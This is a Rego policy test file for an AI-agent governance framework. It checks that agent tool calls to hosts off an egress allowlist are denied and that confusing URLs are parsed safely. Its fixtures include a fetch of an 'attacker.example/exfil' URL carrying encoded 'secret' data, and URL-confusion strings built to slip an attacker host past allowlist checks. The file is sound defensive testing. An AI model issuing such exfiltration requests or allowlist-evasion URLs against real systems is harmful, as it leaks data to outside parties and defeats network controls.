# Egress is derived, not declared (issue 21, item 2): hosts come from the target and from the
# arguments the tool registry declares as URLs or hosts, and are checked whatever `execution`
# says; a network tool without a derivable destination is denied. Missing registry flags fail
# closed (item 5). Each case sits beside the benign neighbour that must stay allowed.
package maestro.layers.l4_deployment_infrastructure_egress_test

import rego.v1

import data.maestro.layers.l4_deployment_infrastructure as l4
import data.maestro.testing as t

test_url_host_outside_the_allowlist_is_denied_without_execution if {
	# The issue's reproduction: no `execution`, the URL alone names the host.
	t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.collector_web}
		with input.action as "http_fetch"
		with input.arguments as {"url": "https://attacker.example/exfil?d=c2VjcmV0", "method": "GET"}
}

test_url_host_on_the_allowlist_is_allowed if {
	d := l4.deny with input.kind as "agent_action"
		with input.subject as {"id": t.collector_web}
		with input.action as "http_fetch"
		with input.arguments as {"url": "https://news.example.org/advisories?id=7", "method": "GET"}
	count(d) == 0
}

test_declared_egress_does_not_hide_the_url_host if {
	t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.collector_web}
		with input.action as "http_fetch"
		with input.arguments as {"url": "https://attacker.example/x"}
		with input.execution as {"sandbox": false, "egress": ["news.example.org"]}
}

test_url_hosts_parse_as_a_browser_reads_them if {
	hosts := {u: h |
		some u in [
			"https://attacker.example/exfil?d=1",
			"https://News.Example.ORG",
			"https://news.example.org@attacker.example/",
			"https://user:pw@attacker.example:8443/x",
			"https://attacker.example:443",
			"https://attacker.example#news.example.org",
			"https://attacker.example?u=https://news.example.org",
		]
		h := l4.url_host(u)
	}
	hosts == {
		"https://attacker.example/exfil?d=1": "attacker.example",
		"https://News.Example.ORG": "news.example.org",
		"https://news.example.org@attacker.example/": "attacker.example",
		"https://user:pw@attacker.example:8443/x": "attacker.example",
		"https://attacker.example:443": "attacker.example",
		"https://attacker.example#news.example.org": "attacker.example",
		"https://attacker.example?u=https://news.example.org": "attacker.example",
	}
}

test_ambiguous_urls_have_no_host if {
	# Two `@`, a backslash, an IP literal, percent-encoding, no scheme: no host is derived.
	underived := {u |
		some u in [
			"https://a@news.example.org@attacker.example/",
			"https://attacker.example\\@news.example.org/",
			"https://[::1]/",
			"https://news.example.org%2eattacker.example/",
			"news.example.org/path",
			"https://news example.org/",
		]
		not l4.url_host(u)
	}
	count(underived) == 6
}

test_unparsable_url_is_denied if {
	t.fires(l4.deny, "L4.egress_destination_unknown") with input.kind as "agent_action"
		with input.subject as {"id": t.researcher}
		with input.action as "http_fetch"
		with input.arguments as {"url": "https://a@news.example.org@attacker.example/"}
}

test_non_string_url_is_denied if {
	t.fires(l4.deny, "L4.egress_destination_unknown") with input.kind as "agent_action"
		with input.subject as {"id": t.researcher}
		with input.action as "http_fetch"
		with input.arguments as {"url": ["https://attacker.example/"]}
}

test_network_tool_without_a_destination_is_denied if {
	t.fires(l4.deny, "L4.egress_destination_unknown") with input.kind as "agent_action"
		with input.subject as {"id": t.researcher}
		with input.action as "http_fetch"
		with input.arguments as {}
}

test_tool_with_fixed_hosts_on_the_allowlist_is_allowed if {
	d := l4.deny with input.kind as "agent_action"
		with input.subject as {"id": t.collector_web}
		with input.action as "web_search"
		with input.arguments as {"query": "CVE-2025-1234"}
	count(d) == 0
}

test_tool_with_fixed_hosts_off_the_allowlist_is_denied if {
	# partner-summarizer's allowlist is empty; web_search reaches api.search.example.
	t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.partner}
		with input.action as "web_search"
		with input.arguments as {"query": "x"}
}

test_tool_without_network_flag_is_a_network_tool if {
	# An entry that says nothing about the network fails closed: no destination, denied.
	t.fires(l4.deny, "L4.egress_destination_unknown") with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "kb_search"
		with data.maestro.registry.tools as {"kb_search": {"risk_class": "read", "sandbox_required": false}}
}

test_offline_tool_needs_no_destination if {
	d := l4.deny with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "kb_search"
	count(d) == 0
}

test_unknown_tool_is_a_network_tool if {
	t.fires(l4.deny, "L4.egress_destination_unknown") with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "curl"
}

test_host_argument_is_checked if {
	t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.coder}
		with input.action as "git_clone"
		with input.arguments as {"host": "Attacker.Example"}
		with data.maestro.registry.tools as {"git_clone": {"risk_class": "read", "sandbox_required": false, "host_args": ["host"]}}
}

test_host_argument_on_the_allowlist_is_allowed if {
	not t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.coder}
		with input.action as "git_clone"
		with input.arguments as {"host": "GIT.corp.example"}
		with data.maestro.registry.tools as {"git_clone": {"risk_class": "read", "sandbox_required": false, "host_args": ["host"]}}
}

test_external_target_is_checked if {
	t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.reporter}
		with input.action as "report_publish"
		with input.arguments as {"channel": "partner-portal"}
		with input.target as {"type": "external", "id": "attacker.example"}
}

test_external_target_on_the_allowlist_is_allowed if {
	not t.fires(l4.deny, "L4.egress_not_allowlisted") with input.kind as "agent_action"
		with input.subject as {"id": t.reporter}
		with input.action as "report_publish"
		with input.arguments as {"channel": "partner-portal"}
		with input.target as {"type": "external", "id": "reports.partner.example"}
}

test_tool_without_sandbox_flag_needs_a_sandbox if {
	t.fires(l4.deny, "L4.code_exec_outside_sandbox") with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "kb_search"
		with data.maestro.registry.tools as {"kb_search": {"risk_class": "read", "network": false}}
}

test_declared_local_does_not_move_a_cloud_agent_local if {
	# reporter is registered on cloud; claiming local is a mismatch and the data stays off local.
	d := l4.deny with input.kind as "agent_action"
		with input.subject as {"id": t.reporter}
		with input.action as "sql_query"
		with input.arguments as {"table": "report_summaries"}
		with input.target as {"type": "store", "id": "analysis-outputs"}
		with input.execution as {"sandbox": false, "location": "local"}
	t.fires(d, "L4.sensitive_data_off_local")
	t.fires(d, "L4.location_mismatch")
}

test_agent_without_location_is_off_local if {
	t.fires(l4.deny, "L4.sensitive_data_off_local") with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "kb_search"
		with input.target as {"type": "store", "id": "kb-vectors"}
		with input.execution as {"sandbox": false, "location": "local"}
		with data.maestro.registry.agents as {"spiffe://corp.example/agent/analyst-security": {"clearance": "restricted", "tenant": "corp"}}
}

test_local_agent_handles_sensitive_data_locally if {
	not t.fires(l4.deny, "L4.sensitive_data_off_local") with input.kind as "agent_action"
		with input.subject as {"id": t.analyst_security}
		with input.action as "kb_search"
		with input.target as {"type": "store", "id": "kb-vectors"}
		with input.execution as {"sandbox": false, "location": "local"}
}
